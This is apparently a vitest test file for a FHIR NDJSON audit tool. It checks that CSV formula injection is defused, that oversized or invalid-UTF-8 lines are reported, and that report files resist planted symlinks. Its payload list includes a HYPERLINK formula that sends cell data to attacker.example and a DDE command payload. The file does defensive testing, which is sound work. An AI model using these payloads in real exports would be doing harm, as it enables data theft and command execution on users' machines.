/**
 * The audit's share of issue 12, each reproduced on the code before it:
 * - item 5: formula injection through free text (Encounter.class.code and the like) in the CSVs;
 * - item 10: the NDJSON reader: a runaway line is capped and reported as `file:line` (not
 *   buffered), invalid UTF-8 is reported as `file:line` (not replaced silently), a file skipped by
 *   its name is not read;
 * - item 12: reports created exclusively (a planted `.partial` link is not followed) with mode
 *   0600.
 * (Item 6, the Bulk Data token, is in bulk.test.ts.)
 */
import {
  appendFileSync,
  copyFileSync,
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { looksLikeFormula } from '../../src/domain/csv.ts';
import { runAudit, type AuditRunOptions } from '../../src/audit/run.ts';
import { readLineRange } from '../../src/audit/sources/lines.ts';
import { plan } from '../../src/audit/sources/ndjson.ts';
import { generated, parseCsv, tempDir } from './support.ts';

const fixture = generated(300, 31);
const work = tempDir();
afterAll(() => {
  rmSync(work, { recursive: true, force: true });
  rmSync(fixture.dir, { recursive: true, force: true });
});

function copyTo(name: string): string {
  const dir = join(work, name);
  mkdirSync(dir);
  for (const f of readdirSync(fixture.dir))
    if (f.endsWith('.ndjson')) copyFileSync(join(fixture.dir, f), join(dir, f));
  return dir;
}

function audit(dir: string, extra: Partial<AuditRunOptions> = {}) {
  const err: string[] = [];
  return runAudit({
    since: fixture.answers.range.since,
    until: fixture.answers.range.until,
    ndjsonDir: dir,
    priceFiles: fixture.prices,
    env: {},
    // One worker (on the main thread): none of these checks is about how the work is shared out.
    workers: 1,
    stdout: () => undefined,
    stderr: (t) => void err.push(t),
    ...extra,
  }).then((r) => ({ ...r, stderr: err.join('') }));
}

const lines = (file: string) => readFileSync(file, 'utf8').split('\n').filter(Boolean);

describe('CSV cells a spreadsheet would evaluate are defused (issue 12 item 5)', () => {
  const payloads = [
    '=HYPERLINK("https://attacker.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1+1)',
    '\n=1+1',
    '\t=1+1',
    '＝1+1',
    ' =1+1',
  ];
  let csvRows: string[][];
  let lineRows: string[][];

  beforeAll(async () => {
    const dir = copyTo('injection');
    // Each payload as the class of one encounter that has a finding (so it is in both CSVs).
    const file = join(dir, 'Encounter.ndjson');
    const encounters = lines(file).map(
      (l) => JSON.parse(l) as { id: string; class: { code: string }; period: { start: string } },
    );
    encounters
      .filter((e) => e.period.start >= fixture.answers.range.since)
      .slice(0, payloads.length)
      .forEach((e, i) => (e.class.code = payloads[i] as string));
    writeFileSync(file, `${encounters.map((e) => JSON.stringify(e)).join('\n')}\n`);
    const r = await audit(dir, { csv: join(work, 'injection.csv') });
    expect(r.exitCode).toBe(0);
    const parse = (f: string) => {
      // Quoted cells may hold line feeds: split rows on line feeds outside quotes.
      const text = readFileSync(f, 'utf8');
      const rows: string[] = [];
      let row = '';
      let quoted = false;
      for (const c of text) {
        if (c === '"') quoted = !quoted;
        if (c === '\n' && !quoted) {
          rows.push(row);
          row = '';
        } else row += c;
      }
      return rows.map(parseCsv);
    };
    csvRows = parse(join(work, 'injection.csv'));
    lineRows = parse(join(work, 'injection.lines.csv'));
  });

  it('every payload lands in the encounter CSV as text, with a leading apostrophe', () => {
    const classes = csvRows.map((r) => r[3] as string);
    for (const p of payloads) expect(classes).toContain(`'${p}`);
  });

  it('no cell of either CSV starts the way a formula does', () => {
    for (const row of [...csvRows, ...lineRows])
      for (const cell of row) expect(looksLikeFormula(cell)).toBe(false);
    expect(lineRows.length).toBeGreaterThan(100);
  });
});

describe('the NDJSON reader (issue 12 item 10)', () => {
  it('caps line length: a runaway line is skipped unread and named file:line; the rest is audited', async () => {
    const dir = copyTo('long-line');
    const file = join(dir, 'MedicationAdministration.ndjson');
    const before = lines(file).length;
    // 5 MB of one line (a 1 MB cap keeps the test small; the default cap is 16 MB).
    appendFileSync(
      file,
      `{"resourceType":"MedicationAdministration","id":"big","note":[{"text":"${'x'.repeat(5 * 1024 * 1024)}"}]}\n`,
    );
    appendFileSync(file, lines(file)[0] as string); // and a last line without a newline
    const r = await audit(dir, { maxLineBytes: 1024 * 1024 });
    expect(r.exitCode).toBe(4);
    expect(r.stderr).toContain(`${file}:${before + 1}: line longer than 1048576 bytes (skipped unread)`);
    expect(r.stats!.brokenLines).toBe(1);
    expect(r.summary!.totals.encounters).toBe(fixture.answers.totals.encounters);
  });

  it('reads a long line below the cap whole, in one copy', async () => {
    const file = join(work, 'one-line.ndjson');
    const text = `{"x":"${'y'.repeat(24 * 1024 * 1024)}"}`;
    writeFileSync(file, `${text}\nsmall\n`);
    const got: number[] = [];
    // Linear time: the 24 chunks of the line are joined once, at its end (a reader that grows the
    // line chunk by chunk copies it 24 times: quadratic, 51 s for one 128 MB line in issue 12).
    const concat = vi.spyOn(Buffer, 'concat');
    let r: { lines: number };
    try {
      r = await readLineRange(
        file,
        { start: 0, end: Infinity, maxLineBytes: 32 * 1024 * 1024 },
        {
          line: (_buf, s, e) => got.push(e - s),
          tooLong: () => got.push(-1),
        },
      );
      expect(concat).toHaveBeenCalledTimes(1);
    } finally {
      concat.mockRestore();
    }
    expect(got).toEqual([text.length, 5]);
    expect(r.lines).toBe(2);
  });

  it('reports invalid UTF-8 as file:line instead of replacing it silently', async () => {
    const dir = copyTo('utf8');
    const admins = join(dir, 'MedicationAdministration.ndjson');
    const claims = join(dir, 'Claim.ndjson');
    const a = lines(admins).length;
    const c = lines(claims).length;
    // A lone continuation byte inside a string, in a line routed by its bytes and in one parsed at once.
    const admin = Buffer.from(
      '{"resourceType":"MedicationAdministration","id":"u1","status":"completed","subject":{"reference":"Patient/syn-pat-000001"},"note":[{"text":"A\xffB"}]}\n',
      'latin1',
    );
    appendFileSync(admins, admin);
    const claim = Buffer.from(
      '{"resourceType":"Claim","id":"u2","status":"active","patient":{"reference":"Patient/syn-pat-000001"},"text":"\xc3("}\n',
      'latin1',
    );
    appendFileSync(claims, claim);
    const r = await audit(dir);
    expect(r.exitCode).toBe(4);
    expect(r.stderr).toContain(`${admins}:${a + 1}: not valid UTF-8`);
    expect(r.stderr).toContain(`${claims}:${c + 1}: not valid UTF-8`);
    expect(r.stats!.brokenLines).toBe(2);
  });

  it('does not read a file skipped by its name (a Bulk export file of a type the audit does not use)', async () => {
    const dir = copyTo('skipped');
    const patients = join(dir, 'Patient.ndjson');
    // Broken lines after the first would be reported if the file were read.
    appendFileSync(patients, 'not json\n');
    appendFileSync(patients, `${'z'.repeat(2 * 1024 * 1024)}\n`);
    const planned = await plan(
      [patients, join(dir, 'Encounter.ndjson')],
      { index: 0, count: 1 },
      1 << 20,
      1 << 20,
    );
    expect(planned.inputs.find((f) => f.path === patients)).toMatchObject({ skipped: true, ranges: 0 });
    const r = await audit(dir, { maxLineBytes: 1024 * 1024 });
    expect(r.exitCode).toBe(0);
    expect(r.stderr).toBe('');
    // The files count as input; none of their lines was read (Organization and Practitioner are
    // skipped the same way).
    const unused = new Set(['Patient.ndjson', 'Organization.ndjson', 'Practitioner.ndjson']);
    const read = readdirSync(dir).filter((f) => f.endsWith('.ndjson') && !unused.has(f));
    expect(r.stats!.lines).toBe(read.reduce((n, f) => n + lines(join(dir, f)).length, 0));
    expect(r.stats!.files).toBe(read.length + unused.size);
  });
});

describe('reports are created exclusively, readable by their owner only (issue 12 item 12)', () => {
  it('does not write through a planted .partial link, nor through a link at the report path', async () => {
    const victim = join(work, 'victim.txt');
    writeFileSync(victim, 'precious\n');
    const json = join(work, 'planted.json');
    const csv = join(work, 'planted.csv');
    const html = join(work, 'planted.html');
    symlinkSync(victim, `${json}.partial`);
    symlinkSync(victim, `${csv}.partial`);
    symlinkSync(victim, html);
    const r = await audit(fixture.dir, { json, csv, html });
    expect(r.exitCode).toBe(0);
    expect(readFileSync(victim, 'utf8')).toBe('precious\n');
    for (const f of [json, csv, join(work, 'planted.lines.csv'), html]) {
      expect(lstatSync(f).isSymbolicLink()).toBe(false);
      expect(statSync(f).mode & 0o777).toBe(0o600);
    }
    expect(existsSync(`${json}.partial`)).toBe(false);
    expect(JSON.parse(readFileSync(json, 'utf8')).totals.encounters).toBe(fixture.answers.totals.encounters);
  });
});
